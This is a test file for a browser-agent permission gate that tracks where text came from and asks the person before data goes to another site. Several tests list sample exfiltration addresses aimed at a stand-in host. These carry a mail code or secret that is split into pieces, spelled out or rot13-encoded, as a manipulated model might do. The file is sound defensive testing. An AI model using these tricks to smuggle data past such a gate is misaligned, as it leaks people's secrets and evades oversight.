"""Where values come from and where they may go: the person's, a page's, a secret; and the gate that asks."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from handrail.gate.origins import site_of, sites_named
from handrail.gate.provenance import Carried, TaskSites
from handrail.happened.whole import SitesKnown
from handrail.page.observation import Page
from handrail_wire import (
    Action,
    Check,
    Click,
    Document,
    Drag,
    Draw,
    Facts,
    FormFacts,
    Goto,
    NewTab,
    Node,
    Observation,
    Point,
    Press,
    Select,
    Type,
    Upload,
)
from tests.support.fake_browser import FakePage
from tests.support.world import act, form_page, stop, type_, world

SHOP, MAIL = "https://www.shop.example", "https://mail.other.example"


@pytest.mark.parametrize(
    ("address", "site"),
    [
        ("https://a.b.shop.co.uk/x", "shop.co.uk"),
        ("https://ada.github.io", "ada.github.io"),
        ("http://127.0.0.1:8000/x", "127.0.0.1"),
        ("http://localhost:1/x", "localhost"),
        ("https://intranet/x", "intranet"),
        ("https://Bücher.de./", "xn--bcher-kva.de"),
        ("about:blank", ""),
        ("null", ""),
        ("http://[::1]/", "::1"),
        ("http://[", ""),
    ],
)
def test_site_of(address: str, site: str) -> None:
    assert site_of(address) == site


def test_sites_that_the_person_names() -> None:
    text = "Look at shop.com and https://www.bbc.co.uk/news, not at ada@mail.com or report.pdf; use http://127.0.0.1:8000/x"
    assert sites_named([text]) == {"shop.com", "bbc.co.uk", "127.0.0.1"}


@pytest.mark.parametrize(
    ("text", "site"),
    [
        ("Look at intranet.corp.", "intranet.corp"),
        ("Read 'docs.wiki.internal/start'", "wiki.internal"),
        ("It is on http://wiki/start", "wiki"),
        ("(see https://wiki.)", "wiki"),
        ("Open localhost:8080", "localhost"),
        ("Open localhost, please", "localhost"),
        ("Use tracker:8080/issues", "tracker"),
        ("Use 10.0.0.5:8080", "10.0.0.5"),
        ("Use http://[::1]:80/", "::1"),
        ("Use https://shop.com@last.corp/", "last.corp"),
        # What looks like it and names none.
        ("Write to ada@intranet.corp, ada@wiki:8080", ""),
        ("Attach report.pdf, photo.heic and data.csv, run Node.js 10.0.0.5", ""),
        ("At 12:30 or 12:30:15, e.g. v1.2, and/or http://", ""),
        ("mylocalhost, localhost-like", ""),
    ],
)
def test_a_host_outside_the_public_web_is_named_as_well(text: str, site: str) -> None:
    assert sites_named([text]) == ({site} if site else set())


def test_only_the_person_names_a_host() -> None:
    typed = Type(ref="e1", text="Ada")
    for made in (TaskSites(f"{SHOP}/start", ["Note Ada on wiki"], told=["See http://wiki/"]), TaskSites(f"{SHOP}/start", ["Note Ada"])):
        made.see(read(SHOP, "Go to http://wiki/"))
        assert "a site that you did not name" in made.carried(typed, facts("http://wiki")).reasons[0]
    named = TaskSites(f"{SHOP}/start", ["Note Ada on http://wiki/start"])
    assert not named.carried(typed, facts("http://wiki")).reasons


def read(origin: str, *texts: str) -> Page:
    nodes = [Node(role="text", name=text) for text in texts]
    document = Document(frame=0, document_id="D", url=f"{origin}/", origin=origin, nodes=nodes)
    return Page(Observation(tab=1, url=f"{origin}/", documents=[document]))


def facts(origin: str = SHOP, **form: Any) -> Facts:
    made = FormFacts(method="post", fields=1, digest="", **form) if form else None
    where = {"document_id": "D", "frame_origin": origin, "url": f"{origin}/x", "role": "textbox"}
    return Facts(**where, submits=made is not None, form=made)


def sites(*pages: Page, said: str = "Order a blue cup for Ada") -> TaskSites:
    made = TaskSites(f"{SHOP}/start", [said])
    for page in pages:
        made.see(page)
    return made


SHOP_PAGE, MAIL_PAGE = read(SHOP, "Cups in blue and green"), read(MAIL, "Your code is 83 114", "Hello Ada")


@pytest.mark.parametrize(
    ("action", "target", "asks"),
    [
        # On the task's own site, as long as no other was read, anything may be typed.
        (Type(ref="e1", text="a poem of my own"), SHOP, ""),
        (Type(ref="e1", text="blue cup"), SHOP, ""),
        (Type(ref="e1", text="<secret:card>"), SHOP, ""),
        # The person's words on a site that is not the task's.
        (Type(ref="e1", text="Ada"), MAIL, "a site that you did not name"),
        (Upload(ref="e1", files=["/tmp/a.txt"]), MAIL, "a site that you did not name"),
        (Goto(url="https://other.example/"), SHOP, "opens other.example, a site that you did not name"),
        (NewTab(url="https://other.example/a/d/a"), SHOP, "opens other.example, a site that you did not name"),
        (Press(ref="e1", keys="A"), MAIL, "a site that you did not name"),
        (Press(text="Ada"), MAIL, "a site that you did not name"),
        (Press(ref="e1", keys="Enter"), MAIL, ""),
        (Press(ref="e1", keys="A"), SHOP, ""),
        (Goto(url="https://other.example/search?q=green"), SHOP, "may come from shop.example"),
        (Goto(url="https://other.example/ada"), SHOP, "a site that you did not name"),
        (NewTab(url="https://ada.other.example/"), SHOP, "a site that you did not name"),
        (Goto(url="https://other.example/#a94a8fe5ccb19ba61c4c0873"), SHOP, "may come from shop.example"),
        (Goto(url=f"{SHOP}/cups?colour=blue"), SHOP, ""),
    ],
)
def test_while_one_site_was_read(action: Action, target: str, asks: str) -> None:
    said = "; ".join(sites(SHOP_PAGE).carried(action, facts(target)).reasons)
    assert asks in said if asks else said == ""


@pytest.mark.parametrize(
    ("action", "target", "asks"),
    [
        (Type(ref="e1", text="83114"), SHOP, "may come from other.example"),
        (Type(ref="e1", text="the code is 83 114"), SHOP, "may come from other.example"),
        (Type(ref="e1", text="ODMxMTQ="), SHOP, "may come from other.example"),
        (Type(ref="e1", text="blue cup"), SHOP, ""),
        (Type(ref="e1", text="green"), SHOP, ""),
        (Type(ref="e1", text="hello"), MAIL, ""),
        (Goto(url=f"{SHOP}/cups?code=114"), SHOP, "may come from other.example"),
        (Goto(url=f"{SHOP}/cups?k=aGVsbG8gd29ybGQ0"), SHOP, "may come from other.example"),
        (Goto(url=f"{SHOP}/cups/blue"), SHOP, ""),
        (Goto(url="https://other.example/"), SHOP, ""),
        (Press(ref="e1", keys="8"), SHOP, "may come from other.example"),
        (Press(ref="e1", keys="Control+a"), SHOP, ""),
    ],
)
def test_after_another_site_was_read(action: Action, target: str, asks: str) -> None:
    said = "; ".join(sites(SHOP_PAGE, MAIL_PAGE, said="Order a blue cup, see mail.other.example").carried(
        action, facts(target)).reasons)  # fmt: skip
    assert asks in said if asks else said == ""


WORDS = "a all and any at be borealis by can code confidential do for from get has it meeting merger next not salary share tuesday with you"
LETTER = read(MAIL, "Your code is 739104", "Salary: confidential merger with Borealis next Tuesday", "Rome, 12 December 2026, 1.250,00")


def piecemeal(*shown: str, said: str = "Tell me what this page says (2)") -> TaskSites:
    """A task in whose course a letter was read, and now a shop that shows something."""
    return sites(LETTER, read(SHOP, *shown), said=f"{said}. It is on mail.other.example and shop.example")


def key(name: str) -> tuple[Action, Facts]:
    return Click(ref="e1"), facts().model_copy(update={"role": "button", "name": name})


DIGITS, CODE_ = "0 1 2 3 4 5 6 7 8 9", "739104"


PIECES: list[tuple[list[tuple[Action, Facts]], str]] = [
        ([(Type(ref="e1", text=one), facts()) for one in CODE_], DIGITS),
        ([(Press(ref="e1", keys=one), facts()) for one in CODE_], DIGITS),
        ([(Press(text=one), facts()) for one in CODE_], DIGITS),
        ([key(one) for one in CODE_], DIGITS),
        ([(Press(ref="e1", keys="Enter"), key(one)[1]) for one in CODE_], DIGITS),
        ([(Draw(ref="e1", points=[Point(x=1, y=1), Point(x=2, y=2)]), key(one)[1]) for one in CODE_], DIGITS),
        ([(Select(ref="e1", options=[one]), facts()) for one in CODE_], DIGITS),
        ([(Type(ref="e1", text="739"), facts()), (Type(ref="e2", text="104"), facts())], "739 740 741 104 105"),
        ([(Type(ref="e1", text="73"), facts()), *[(Type(ref="e2", text="91"), facts())] * 2, (Type(ref="e3", text="04"), facts())], "91 04 73"),
        ([(Type(ref="e1", text="739 104"), facts())], " ".join(f"{n:03}" for n in range(99, 999, 5))),
        ([(Type(ref="e1", text="739-104"), facts())], "739 and 104"),
        ([(Type(ref="e1", text="Salary confidential merger with Borealis next Tuesday"), facts())], WORDS),
        ([(Type(ref="e1", text="Tuesday: Borealis, salary"), facts())], WORDS),
        ([(Press(text="merger with Borealis"), facts())], WORDS),
        ([(Type(ref="e1", text=f"{one} ", clear=False), facts()) for one in ("merger", "with")], WORDS),
]  # fmt: skip


@pytest.mark.parametrize(("steps", "shown"), PIECES, ids=range(len(PIECES)))
def test_pieces_that_a_page_shows_do_not_make_a_text_its_own(steps: list[tuple[Action, Facts]], shown: str) -> None:
    made = piecemeal(shown)
    asked = [made.carried(*step).reasons for step in steps]
    assert asked[-1] == ("It brings text to shop.example that may come from other.example",)
    if len(steps) > 1:
        asked = [piecemeal(shown).carried(*step).reasons for step in steps]
        assert not any(asked), "each alone says nothing"


@pytest.mark.parametrize(
    ("texts", "shown", "said"),
    [
        (["12 December 2026"], "Tue 12 December 2026", ""),
        (["Rome"], "Paris Rome Oslo", ""),
        (["confidential merger"], "A confidential merger is near", ""),
        (["739104"], "Your number: 739 104", ""),
        (["739104"], "", "My code is 739 104"),
        ([*CODE_], DIGITS, "My code is 739104"),
        (["73", "91", "04"], "73 91 04 7391 04", "My code is 739-104"),
        (["merger with Borealis", "next Tuesday"], WORDS, "Look for Borealis, the next merger with it on Tuesday"),
        (["1250.00", "1 250"], "A price of 1,250.00", ""),
        (["blue cups", "2", "12", "2026"], "cups in blue, 12 of them, in 2026, or 2", ""),
        (["7", "3", "1", "9"], DIGITS, ""),
    ],
)
def test_what_the_page_or_the_person_has_as_it_is_is_not_asked_about(texts: list[str], shown: str, said: str) -> None:
    made = piecemeal(shown, said=said)
    assert [made.carried(Type(ref="e1", text=text), facts()).reasons for text in texts] == [()] * len(texts)
    made = piecemeal(shown, said=said)
    assert [made.carried(Select(ref="e1", options=[text]), facts()).reasons for text in texts] == [()] * len(texts)


SPELLED = [
    (CODE_, f"My code is {CODE_}"), ("518264", "My code is 518264"), ("518264", "My code is 518 264"), ("551188", "My code is 551188"),
    ("5118264", "My code is 518264"), ("042", "Room 042"), ("12052026", "On 12.05.2026"),
]  # fmt: skip


@pytest.mark.parametrize(("put", "said"), SPELLED)
@pytest.mark.parametrize("shown", ["", "1 2", DIGITS])
def test_digits_that_spell_a_number_of_the_persons_are_not_asked_about(put: str, said: str, shown: str) -> None:
    typed = [(Type(ref="e1", text=one), facts()) for one in put]
    pressed = [(Press(ref="e1", keys=one), facts()) for one in put]
    keys = [key(one) for one in put]
    for steps in (typed, pressed, keys):
        made = piecemeal(shown, said=said)
        assert [made.carried(*step).reasons for step in steps] == [()] * len(put)


@pytest.mark.parametrize("texts", [["518 264"], ["518-264"], ["518", "264"], ["51", "82", "64"]])
def test_a_number_of_the_persons_may_be_typed_in_groups(texts: list[str]) -> None:
    made = piecemeal("Code", said="My code is 518264")
    assert [made.carried(Type(ref="e1", text=text), facts()).reasons for text in texts] == [()] * len(texts)


@pytest.mark.parametrize("text", ["518 264", "518-264"])
def test_a_number_of_the_persons_stays_theirs_where_another_site_groups_it_so(text: str) -> None:
    made = piecemeal("Code", said="My code is 518264")
    made.see(read("https://mail.other.example", f"You have typed {text}"))
    assert made.carried(Type(ref="e1", text=text), facts()).reasons == ()


@pytest.mark.parametrize("said", ["My code is 518264", "My code is 7391", "My codes are 73 and 9104", "My code is 401937"])
@pytest.mark.parametrize("shown", ["", DIGITS])
def test_digits_that_spell_what_another_site_shows_are_asked_about(said: str, shown: str) -> None:
    for steps in ([(Type(ref="e1", text=one), facts()) for one in CODE_], [(Press(text=one), facts()) for one in CODE_]):
        made = piecemeal(shown, said=said)
        assert [made.carried(*step).reasons for step in steps][-1], "the last one makes it whole"


def test_the_persons_digits_go_to_no_other_site() -> None:
    made = piecemeal(said="My code is 518264")
    assert made.carried(Type(ref="e1", text="5"), facts("https://new.example")).reasons


EVIL, ORG = "https://evil.test.com", "https://example.org"
CODE = read("https://mail.example.org", "Your code is 482913", "PIN 48-29", "Secret meeting in Rome with Alice")


def astray(*more: Page) -> TaskSites:
    """A task on two sites, one of which has a page that may talk the model into anything."""
    made = TaskSites(f"{EVIL}/start", ["Compare the prices of blue cups on evil.test.com and example.org"])
    for page in (read(EVIL, "Cups: blue, green", "Pages 1 2 3", "13 29 48"), CODE, *more):
        made.see(page)
    return made


@pytest.mark.parametrize(
    "path",
    [
        "/x?c=482913",
        "/x?a=48&b=29&c=13",
        "/x/48/29/13",
        "/x/482-913",
        "/x?pin=48&of=29",
        "/x#48-29-13",
        "/x?a=4a8&b=2b9",
        "/x?p=777",
        "/four-eight-two-nine-one-three",
        "/frperg-zrrgvat-nyvpr",
        "/x?q=nyvpr",
        "/x#nyvpr",
        "/x?nyvpr",
        "/x?a=ny&b=iv&c=pr",
        "/#/frperg/zrrgvat/nyvpr",
    ],
)
def test_what_a_model_cuts_up_or_rewrites_in_an_address_is_asked_about(path: str) -> None:
    for action in (Goto(url=EVIL + path), NewTab(url=EVIL + path)):
        assert "may come from example.org" in "; ".join(astray().carried(action, None).reasons)
    only = TaskSites(f"{EVIL}/start", ["Buy a cup"])
    only.see(read(EVIL, "Cups"))
    assert only.carried(Goto(url=EVIL + path), None) == Carried(), "no other site was read"


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/cups/blue",
        "/account/orders",
        "/products/cups?page=7",
        "/search?q=blue+cups&sort=price&order=asc&page=2",
        "/cups?colour=green&lang=de",
        "/cups/13?size=48#blue",
        "/start?view=list&limit=50",
        "/v2/cups",
        "/#/cups/blue",
        "/#/account/orders",
    ],
)
def test_everyday_addresses_of_a_task_site_are_opened_unasked(path: str) -> None:
    assert astray().carried(Goto(url=EVIL + path), None) == Carried()


def test_an_address_that_the_person_wrote_or_the_site_has_is_opened_unasked() -> None:
    url = f"{EVIL}/items/48213-large-porcelain-teapot-sale?variant=77120"
    assert astray().carried(Goto(url=url), None).reasons
    made = astray()
    made.hear(f"Begin at {url}")
    assert made.carried(Goto(url=url), None) == Carried()
    made.see(read("https://mail.example.org", "Your number: 555 321"))
    assert made.carried(Goto(url=f"{EVIL}/x/555/321"), None).reasons
    made.hear("My number is 555 321")
    assert made.carried(Goto(url=f"{EVIL}/x/555/321"), None) == Carried(), "the mail has it as well"
    document = Document(frame=0, document_id="E", url=url, origin=EVIL, nodes=[])
    seen = astray(Page(Observation(tab=1, url=url, documents=[document])))
    assert seen.carried(Goto(url=url), None) == Carried(), "it was there before"


def test_small_numbers_add_up() -> None:
    made = astray()
    asked = [bool(made.carried(Goto(url=f"{EVIL}/x?p={pair}"), None).reasons) for pair in (72, 61, 72, 95)]
    assert asked == [False, False, False, True]
    assert not made.carried(Goto(url=f"{EVIL}/x?p=3"), None).reasons, "the site shows it itself"
    assert not made.carried(Goto(url=f"{ORG}/x?p=72"), None).reasons


def test_what_was_read_before_a_restart_is_not_forgotten() -> None:
    again = TaskSites(f"{SHOP}/start", ["Order a blue cup for Ada, see mail.other.example"], read=["other.example"])
    again.see(SHOP_PAGE)
    assert "may come from other.example" in again.carried(Type(ref="e1", text="83114"), facts()).reasons[0]
    assert again.see(SHOP_PAGE) == again.see(MAIL_PAGE) == frozenset()


def test_a_site_that_was_only_a_frame_is_none_that_was_used() -> None:
    frame = read("https://ads.example", "Buy more").observation.documents[0].model_copy(update={"frame": 3})
    shop = SHOP_PAGE.observation
    both = shop.model_copy(update={"documents": [*shop.documents, frame]})
    made = sites(Page(both))
    assert made.carried(Goto(url="https://ads.example/account"), None).reasons
    made.see(read("https://ads.example", "Buy more"))
    assert not made.carried(Goto(url="https://ads.example/account"), None).reasons


def test_a_link_with_a_key_in_its_address() -> None:
    def asked(href: str, made: TaskSites) -> tuple[str, ...]:
        return made.carried(Click(ref="e1"), facts().model_copy(update={"href": href})).reasons

    away = "https://other.example/take?sid=••••"
    assert "other.example" in asked(away, sites())[0]
    assert not asked("https://other.example/take?page=2", sites())
    assert not asked("https://pay.shop.example/?token=••••", sites())
    approved = sites()
    approved.approve(["other.example"])
    assert not asked(away, approved)


@pytest.mark.parametrize(
    ("href", "asks"),
    [
        ("https://other.example/take?who=Ada+Lovelace", True),
        ("https://other.example/take#who=ada%20lovelace", True),
        ("https://other.example/people/Ada_Lovelace", True),
        ("https://ada-lovelace.other.example/", True),
        ("https://other.example/people?first=Ada", False),
        ("https://other.example/secret/card", False),
        ("https://other.example/", False),
        ("https://pay.shop.example/take?who=Ada+Lovelace", False),
    ],
)
def test_a_link_whose_address_has_what_was_typed(href: str, asks: bool) -> None:
    made = TaskSites(f"{SHOP}/start", typed=lambda: ["Ada Lovelace", "<secret:card>", "en"])
    link = facts().model_copy(update={"href": href})
    drag, draw = Drag(ref="e1", end=Point(x=1, y=0)), Draw(ref="e1", points=[Point(x=5, y=5), Point(x=6, y=6)])
    for action in (Click(ref="e1"), Press(ref="e1", keys="Enter"), Check(ref="e1", on=True), drag, draw):
        found = made.carried(action, link)
        expected = ("What was typed would go to other.example with the link",) if asks else ()
        assert (found.reasons, bool(found.sites)) == (expected, asks)
    made.approve(["other.example"])
    assert not made.carried(Click(ref="e1"), link).reasons


def test_a_form_to_another_site() -> None:
    enter = Press(ref="e1", keys="Enter")
    away = facts(action="https://search.other.example/", text_fields=1)
    assert "other.example" in sites().carried(enter, away).reasons[0]
    assert sites().carried(enter, away).sites == {"other.example"}
    assert not sites().carried(enter, facts(action="https://pay.shop.example/x")).reasons
    approved = sites()
    approved.approve(["other.example"])
    assert not approved.carried(enter, away).reasons
    secret = facts(action="https://login.other.example/", passwords="current")
    assert "Passwords" in approved.carried(enter, secret).reasons[0], "a secret is asked about each time"


async def test_a_text_of_another_site_is_asked_about_in_a_run(tmp_path: Path) -> None:
    """The whole way: the page moves to another site, and what was read before is typed there."""
    page = form_page()
    page.nodes = [*page.nodes, Node(role="text", name="Your code is 83114")]
    script = [
        act({"ref": "e4", "do": "click"}),
        act(type_("e1", "83114")),
        act(type_("e1", "Berlin")),
        act(stop("end")),
    ]

    def leave(one: FakePage) -> None:
        one.url, one.nodes = "http://other.test/", form_page().nodes

    page.on_click["e4"] = leave
    async with world(tmp_path, script, page) as here:
        here.browser.decide = lambda asked: "deny" if "83114" in asked.action.text else "approve"  # type: ignore[union-attr]
        view = await here.browser.do("Type Berlin")
        assert view.state == "done", view
        [code, city] = here.browser.asked
        assert code.reasons == ["It brings text to other.test that may come from site.test"]
        assert "site that you did not name" in city.reasons[0]
        assert [one.verb for one in here.browser.page.did] == ["click", "type"]
        sites = here.happened(view.run, SitesKnown)
        assert SitesKnown(read=("other.test",)) in sites and SitesKnown(approved=("other.test",)) in sites


async def test_what_was_typed_is_known_in_a_run(tmp_path: Path) -> None:
    page = form_page()
    page.facts["e4"] = {"href": "http://elsewhere.test/take?it=Berlin"}
    script = [act(type_("e1", "Berlin")), act({"ref": "e4", "do": "click"}), act(stop("end"))]
    async with world(tmp_path, script, page) as here:
        here.browser.decide = lambda asked: "deny"
        view = await here.browser.do("Find Berlin")
        assert view.state == "stopped" and [one.verb for one in here.browser.page.did] == ["type"]
        [asked] = here.browser.asked
        assert asked.reasons == ["What was typed would go to elsewhere.test with the link"]


async def test_an_address_with_data_for_a_new_site_is_asked_about_in_a_run(tmp_path: Path) -> None:
    goto = {"do": "goto", "url": "http://elsewhere.test/take?it=Berlin"}
    async with world(tmp_path, [act(goto), act(stop("end"))], form_page()) as here:
        here.browser.decide = lambda asked: "deny"
        view = await here.browser.do("Find Berlin")
        assert view.state == "stopped" and here.browser.page.did == []
        [asked] = here.browser.asked
        assert asked.sentence == "Open http://elsewhere.test/take?it=Berlin"
